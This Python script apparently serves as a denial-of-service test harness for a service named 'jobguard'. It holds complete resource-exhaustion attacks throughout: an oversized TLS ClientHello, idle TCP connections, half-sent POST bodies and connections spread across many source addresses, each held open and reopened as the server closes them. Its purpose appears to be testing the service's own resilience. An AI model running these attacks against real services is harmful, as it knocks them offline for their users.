#!/usr/bin/env python3
"""Connection attacks on jobguard, as any pod that can reach its ports could run them. Each one
keeps N connections in its state for SECONDS, opening a new one whenever the server closes one
(at most one new connection per connection slot every 0.2 s), then prints what it did.

usage: attacks.py hello   PORT N SECONDS BYTES [ADDRESSES]
         TLS record stream of one ClientHello whose length field announces 16 MiB; BYTES of it
         are sent, then the connection holds (GnuTLS buffers a handshake message whole).
       attacks.py idle    PORT N SECONDS [ADDRESSES]
         TCP connections that send nothing (no TLS byte, no request line).
       attacks.py headers PORT N SECONDS LENGTH CA [SENT [ADDRESSES]]
         TLS connections that send the headers of POST /validate with Content-Length LENGTH
         and SENT bytes of its body (default 0), and nothing more.
       attacks.py spread  PORT ADDRESSES PER SECONDS
         idle TCP connections, PER from each of ADDRESSES source addresses.
ADDRESSES source addresses are 127.0.0.2, 127.0.0.3, ...; connections are spread over them
evenly (without it, 127.0.0.1, the address valid clients use).
Prints "attacking" once every connection has been opened the first time, and at the end
"opened K" (connections opened in all) and "peak P" (most open at once).
"""
import selectors
import socket
import ssl
import struct
import sys
import threading
import time

HOST = "jobguard.default.svc"
REOPEN_S = 0.2


def hello_bytes(n):
    """TLS records carrying the first n bytes of a ClientHello announcing 16 MiB - 1."""
    body = b"\x01\xff\xff\xff\x03\x03" + bytes(max(n - 6, 0))
    out = bytearray()
    for off in range(0, len(body), 16384):
        part = body[off:off + 16384]
        out += b"\x16\x03\x01" + struct.pack(">H", len(part)) + part
    return bytes(out)


class Plain:
    """Raw TCP connections kept in a state by one selector loop."""

    def __init__(self, port, srcs, payload, seconds):
        self.port, self.srcs, self.payload, self.seconds = port, srcs, payload, seconds
        self.sel = selectors.DefaultSelector()
        self.opened = self.open_now = self.peak = 0
        self.retry = []  # (time, src) of slots to open again

    def open(self, src):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            if src:
                s.bind((src, 0))
            s.connect_ex(("127.0.0.1", self.port))
        except OSError:
            s.close()
            self.retry.append((time.monotonic() + REOPEN_S, src))
            return
        self.opened += 1
        self.open_now += 1
        self.peak = max(self.peak, self.open_now)
        self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, [src, 0])

    def drop(self, s, state):
        self.sel.unregister(s)
        s.close()
        self.open_now -= 1
        self.retry.append((time.monotonic() + REOPEN_S, state[0]))

    def run(self):
        for src in self.srcs:
            self.open(src)
        print("attacking", flush=True)
        end = time.monotonic() + self.seconds
        while time.monotonic() < end:
            for key, ev in self.sel.select(timeout=0.05):
                s, state = key.fileobj, key.data
                if ev & selectors.EVENT_READ:
                    try:
                        if not s.recv(65536):
                            self.drop(s, state)
                            continue
                    except BlockingIOError:
                        pass
                    except OSError:
                        self.drop(s, state)
                        continue
                if ev & selectors.EVENT_WRITE:
                    try:
                        state[1] += s.send(self.payload[state[1]:state[1] + 65536])
                    except BlockingIOError:
                        pass
                    except OSError:
                        self.drop(s, state)
                        continue
                    if state[1] >= len(self.payload):
                        self.sel.modify(s, selectors.EVENT_READ, state)
            now = time.monotonic()
            due = [r for r in self.retry if r[0] <= now]
            self.retry = [r for r in self.retry if r[0] > now]
            for _, src in due:
                self.open(src)
        print(f"opened {self.opened}")
        print(f"peak {self.peak}")


def headers(port, n, seconds, length, ca, sent, srcs):
    ctx = ssl.create_default_context(cafile=ca)
    head = (f"POST /validate HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {length}\r\n\r\n").encode() + b" " * sent
    end = time.monotonic() + seconds
    lock = threading.Lock()
    stats = {"opened": 0, "now": 0, "peak": 0}
    ready = threading.Barrier(n + 1)

    def one(src):
        first = True
        while time.monotonic() < end:
            try:
                raw = socket.create_connection(("127.0.0.1", port), timeout=5,
                                               source_address=(src, 0) if src else None)
                s = ctx.wrap_socket(raw, server_hostname=HOST)
                s.sendall(head)
            except OSError:
                time.sleep(REOPEN_S)
                continue
            finally:
                if first:
                    first = False
                    ready.wait(60)
            with lock:
                stats["opened"] += 1
                stats["now"] += 1
                stats["peak"] = max(stats["peak"], stats["now"])
            s.settimeout(0.5)
            while time.monotonic() < end:
                try:
                    if not s.recv(4096):
                        break
                except socket.timeout:
                    continue
                except OSError:
                    break
            s.close()
            with lock:
                stats["now"] -= 1

    threads = [threading.Thread(target=one, args=(src,)) for src in srcs]
    for t in threads:
        t.start()
    ready.wait(60)
    print("attacking", flush=True)
    for t in threads:
        t.join()
    print(f"opened {stats['opened']}")
    print(f"peak {stats['peak']}")


def sources(n, addresses):
    if not addresses:
        return [None] * n
    return [f"127.0.0.{2 + i % addresses}" for i in range(n)]


def main():
    a = sys.argv
    mode, port = a[1], int(a[2])
    if mode == "hello":
        n, seconds, size = int(a[3]), float(a[4]), int(a[5])
        Plain(port, sources(n, int(a[6]) if len(a) > 6 else 0), hello_bytes(size), seconds).run()
    elif mode == "idle":
        n, seconds = int(a[3]), float(a[4])
        Plain(port, sources(n, int(a[5]) if len(a) > 5 else 0), b"", seconds).run()
    elif mode == "spread":
        addrs, per, seconds = int(a[3]), int(a[4]), float(a[5])
        Plain(port, sources(addrs * per, addrs), b"", seconds).run()
    elif mode == "headers":
        n = int(a[3])
        headers(port, n, float(a[4]), int(a[5]), a[6], int(a[7]) if len(a) > 7 else 0,
                sources(n, int(a[8]) if len(a) > 8 else 0))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
